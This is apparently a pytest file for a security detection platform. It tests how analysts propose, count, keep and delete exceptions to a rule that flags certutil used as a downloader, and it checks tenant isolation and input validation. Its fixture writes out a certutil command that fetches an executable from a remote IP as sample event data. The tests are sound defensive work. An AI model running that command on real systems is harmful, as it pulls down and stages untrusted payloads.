"""An exception from a finding: proposed, counted, kept, and gone by on the stream."""

from dataclasses import replace

import pytest
import yaml

from api.rule_check import house_rules, own_rules
from business.incidents import open_by_hand, set_verdict
from detectors import sigma
from storage.database.rows import insert_findings
from storage.rules import tenant_rules
from storage.schema import Context, EventBatch, Finding
from storage.tenant import Role
from tests.api.conftest import START_US, Front
from tests.detectors.streams import frame_of

RULE = "certutil_as_downloader"


def download(host: str, user: str, tenant: str = "acme", second: int = 0) -> dict[str, object]:
    """Give one download by certutil."""
    return {
        "tenant_id": tenant,
        "time_us": START_US + second * 1_000_000,
        "class_uid": 1007,
        "activity_id": 1,
        "metadata.product.name": "windows",
        "metadata.log_format": "sample",
        "device.hostname": host,
        "actor.user.name": user,
        "process.file.path": "C:\\Windows\\System32\\certutil.exe",
        "process.cmd_line": "certutil -urlcache -split -f http://203.0.113.5/a.exe a.exe",
    }


def claims(front: Front, *rows: dict[str, object]) -> list[Finding]:
    """Give what the flows would claim of these events, with the tenants' own rules."""
    sets: dict[str, object] = {"": house_rules(front.app.state.desk.settings)}
    for scope in (front.acme, front.bolt):
        with front.database.app(scope) as tx:
            texts = {str(r["rule_id"]): str(r["text"]) for r in tenant_rules(tx)}
        sets[scope.tenant_id] = own_rules(front.app.state.desk.settings, texts)
    batch = EventBatch(frame_of(rows))
    made = sigma.detect({}, batch, Context(0, sets))[1]
    return [f for f in made if "certutil" in f.title.lower()]


@pytest.fixture
def found(front: Front) -> Finding:
    """Keep three findings of one rule: two of pc1 by ann, one of pc2 by bob."""
    rows = [download("pc1", "ann"), download("pc1", "ann", second=9), download("pc2", "bob")]
    made = claims(front, *rows)
    assert len(made) == 3
    with front.database.writer() as tx:
        insert_findings(tx, made)
    return next(f for f in made if f.entity == "pc1")


def test_it_is_proposed_counted_kept_and_gone_by(front: Front, found: Finding) -> None:
    client = front.bearer(front.acme, Role.ANALYST)
    place = f"/v1/findings/{found.finding_id}/exception"
    told = client.get(place).json()
    assert ["host", "pc1"] in told["proposed"]
    assert ["user", "ann"] in told["conditions"]
    wanted = [["host", "pc1"], ["user", "ann"]]
    effect = client.post(f"{place}/effect", json={"conditions": wanted}).json()
    assert (effect["removed"], effect["of"], effect["right"]) == (2, 3, 0)
    kept = client.post(place, json={"conditions": wanted, "why": "our deployment tool"})
    assert kept.status_code == 201, kept.text
    text = client.get(f"/v1/rules/{kept.json()['rule_id']}").json()["text"]
    assert "our deployment tool" in yaml.safe_load(text)["description"]
    rows = [download("pc1", "ann"), download("pc1", "eve"), download("pc2", "ann")]
    assert sorted(f.entity for f in claims(front, *rows)) == ["pc1", "pc2"]
    assert len(claims(front, download("pc1", "ann", "bolt"))) == 1
    client.delete(f"/v1/rules/{kept.json()['rule_id']}")
    assert len(claims(front, *rows)) == 3


def test_the_same_exception_twice_is_one(front: Front, found: Finding) -> None:
    client = front.bearer(front.acme, Role.ANALYST)
    place = f"/v1/findings/{found.finding_id}/exception"
    new = {"conditions": [["host", "pc1"]], "why": "x"}
    ids = {client.post(place, json=new).json()["rule_id"] for _ in range(2)}
    assert len(ids) == 1
    assert len(client.get("/v1/rules", params={"owner": "tenant"}).json()["items"]) == 1


def test_what_people_judged_true_is_told_before_it_is_taken_out(
    front: Front, found: Finding
) -> None:
    with front.database.app(front.acme) as tx:
        incident = open_by_hand(front.acme, tx, "by hand", [found.finding_id])
        set_verdict(front.acme, tx, incident["incident_id"], "true_positive", incident["version"])
    client = front.bearer(front.acme, Role.VIEWER)
    place = f"/v1/findings/{found.finding_id}/exception/effect"
    assert client.post(place, json={"conditions": [["host", "pc1"]]}).json()["right"] == 1


@pytest.mark.parametrize(
    ("conditions", "why"),
    [
        ([["host", "other"]], "x"),
        ([["secret", "pc1"]], "x"),
        ([["host", "pc1"]], "  "),
        ([["host", "pc1"]], "a\nb"),
        ([], "x"),
    ],
)
def test_what_is_none_is_refused(
    front: Front, found: Finding, conditions: list[list[str]], why: str
) -> None:
    client = front.bearer(front.acme, Role.ANALYST)
    place = f"/v1/findings/{found.finding_id}/exception"
    assert client.post(place, json={"conditions": conditions, "why": why}).status_code == 422
    other = front.bearer(front.bolt, Role.ANALYST)
    assert other.get(place).status_code == 404
    new = {"conditions": [["host", "pc1"]], "why": "x"}
    assert other.post(place, json=new).status_code == 404


def test_names_with_signs_of_rules_are_taken_letter_by_letter(front: Front) -> None:
    odd = "pc*?\\1: {a}\u2028#'\""
    made = claims(front, download(odd, "ann"))
    with front.database.writer() as tx:
        insert_findings(tx, made)
    client = front.bearer(front.acme, Role.ANALYST)
    place = f"/v1/findings/{made[0].finding_id}/exception"
    kept = client.post(place, json={"conditions": [["host", odd]], "why": "odd"})
    assert kept.status_code == 201, kept.text
    assert claims(front, download(odd, "ann")) == []
    assert len(claims(front, download("pcXX\\1: {a}\u2028#'\"", "ann"))) == 1


def test_claims_of_detectors_in_code_have_none(front: Front, found: Finding) -> None:
    coded = replace(found, detector="beaconing", finding_id="0196f000-0000-8000-8000-0000000000aa")
    with front.database.writer() as tx:
        insert_findings(tx, [coded])
    client = front.bearer(front.acme, Role.ANALYST)
    answer = client.post(
        f"/v1/findings/{coded.finding_id}/exception",
        json={"conditions": [["host", "pc1"]], "why": "x"},
    )
    assert answer.status_code == 422
    assert "judge the incident" in answer.text
